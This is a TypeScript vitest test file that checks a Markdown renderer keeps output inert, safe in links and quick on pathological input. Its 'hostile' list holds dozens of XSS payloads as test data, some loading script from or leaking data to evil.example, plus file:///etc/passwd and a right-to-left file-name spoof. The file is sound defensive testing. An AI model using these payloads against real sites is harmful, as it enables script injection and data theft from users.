import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown.ts'

type Tag = { name: string; attributes: Record<string, string> }

function tagsOf(html: string): Tag[] {
  const tags: Tag[] = []
  new Parser({ onopentag: (name, attributes) => void tags.push({ name, attributes }) }).end(html)
  return tags
}

const allowed = new Set(
  'a blockquote br code del em h1 h2 h3 h4 h5 h6 hr input li ol p pre section span strong sup table tbody td th thead tr ul'.split(
    ' ',
  ),
)
const attributes = new Set(
  'align aria-describedby aria-label checked class data-end data-footnote-backref data-footnote-ref data-footnotes data-start disabled href id rel start target title type'.split(
    ' ',
  ),
)

function expectInert(html: string) {
  for (const { name, attributes: given } of tagsOf(html)) {
    expect(allowed).toContain(name)
    for (const attribute of Object.keys(given)) expect(attributes).toContain(attribute)
    if (name === 'input') expect(given).toMatchObject({ type: 'checkbox', disabled: '' })
    if (given.href !== undefined) expect(given.href).toMatch(/^(?:https?:\/\/|mailto:|#)/)
    if (given.href !== undefined && !given.href.startsWith('#'))
      expect(given).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow ugc' })
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '</p><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<x onclick=alert(1)>click</x>',
  '<portal src=javascript:alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<  javascript:alert(1)>)',
  '[x](javascript://%0aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://a.example/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/api/v1/commands)',
  '[x](../../logout)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/a.png?secret=1)',
  '![x"onerror="alert(1)](https://evil.example/a.png)',
  '![x][y]\n\n[y]: https://evil.example/a.png "t"',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[x](https://a.example "onclick=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '# "onmouseover=alert(1) x="',
  '| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- [x] <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '\u2028<script>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '\ufeff<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '[x](https://a.example/\u202egnp.exe)',
]

describe('messages and previews', () => {
  it.each(hostile)('S41 S46 F44 %j is inert', (markdown) => {
    expectInert(renderMarkdown(markdown))
    expectInert(renderMarkdown(`a ${markdown} b`))
    expectInert(renderMarkdown(`- a\n\n  ${markdown}\n`))
  })

  it('F44 hostile markup is shown, not swallowed', () => {
    expect(renderMarkdown('a List<String> and <script>alert(1)</script>')).toContain(
      'List&#x3C;String> and &#x3C;script>alert(1)&#x3C;/script>',
    )
    expect(renderMarkdown('<b>\nbold\n</b>')).toBe('<p data-start="0" data-end="13">&#x3C;b>\nbold\n&#x3C;/b></p>')
  })

  it('F49 a remote picture is a link and nothing is loaded', () => {
    const html = renderMarkdown('![the plan](https://img.example/a.png)')
    expect(tagsOf(html).map((tag) => tag.name)).toEqual(['p', 'a'])
    expect(html).toContain('href="https://img.example/a.png"')
    expect(html).toContain('>the plan</a>')
  })

  it('good links stay and open apart', () => {
    const html = renderMarkdown('[a](https://a.example/b?c=d) mail@a.example www.b.example <mailto:x@y.example>')
    const links = tagsOf(html).filter((tag) => tag.name === 'a')
    expect(links.map((tag) => tag.attributes.href)).toEqual([
      'https://a.example/b?c=d',
      'mailto:mail@a.example',
      'http://www.b.example/',
      'mailto:x@y.example',
    ])
  })

  it('headings have ids that links on the page reach, each its own', () => {
    const html = renderMarkdown('# Größe & Preis\n\n# Größe & Preis\n\n[go](#größe-preis)')
    expect(html).toContain('id="h-größe-preis"')
    expect(html).toContain('id="h-größe-preis-1"')
    expect(html).toContain('href="#h-größe-preis"')
  })

  it('footnotes find their way and back', () => {
    const html = renderMarkdown('a[^1]\n\n[^1]: note')
    const ids = new Set(tagsOf(html).flatMap((tag) => tag.attributes.id ?? []))
    const links = tagsOf(html).flatMap((tag) => tag.attributes.href ?? [])
    expect(links).toHaveLength(2)
    for (const link of links) expect(ids).toContain(link.slice(1))
  })

  it('each block carries its place in the source', () => {
    const markdown = '# One\n\nTwo *three*\n\n- four\n\n| five |\n|-|\n| six |\n\n> seven\n\n```\neight\n```\n'
    const places = tagsOf(renderMarkdown(markdown)).flatMap(
      ({ name, attributes: { 'data-start': start, 'data-end': end } }) =>
        start === undefined ? [] : [`${name}: ${markdown.slice(Number(start), Number(end)).replaceAll('\n', '/')}`],
    )
    expect(places).toEqual([
      'h1: # One',
      'p: Two *three*',
      'ul: - four',
      'li: - four',
      'table: | five |/|-|/| six |',
      'tr: | five |',
      'th: | five |',
      'tr: | six |',
      'td: | six |',
      'blockquote: > seven',
      'p: seven',
      'pre: ```/eight/```',
    ])
  })

  it('tables, task lists and strike-through are understood', () => {
    expect(renderMarkdown('~~a~~')).toContain('<del>a</del>')
    expect(renderMarkdown('- [x] a')).toContain('<input type="checkbox" checked disabled>')
  })

  it.each([
    ['brackets', '['],
    ['link beginnings', '[a]('],
    ['picture beginnings', '![a]('],
    ['stars', '*a '],
    ['mixed stars', 'a**bc* '],
    ['underlines', '_a__'],
    ['tildes', '~~a '],
    ['quotes', '>'],
    ['bullets', '- '],
    ['numbers', '1. '],
    ['tags', '<a '],
    ['entities', '&a'],
    ['back-ticks', '` `` '],
  ])('S52 60,000 characters of %s end soon', (_, unit) => {
    const markdown = unit.repeat(60_000 / unit.length)
    const from = process.cpuUsage()
    expectInert(renderMarkdown(markdown))
    expect(process.cpuUsage(from).user / 1000).toBeLessThan(5000)
  })

  it('a table of 5,000 linked rows is still a table', () => {
    const html = renderMarkdown(`| a | b |\n|---|---|\n${'| [x](https://a.example) | **y** |\n'.repeat(5000)}`)
    expect(html.match(/<tr /g)).toHaveLength(5001)
  })
})
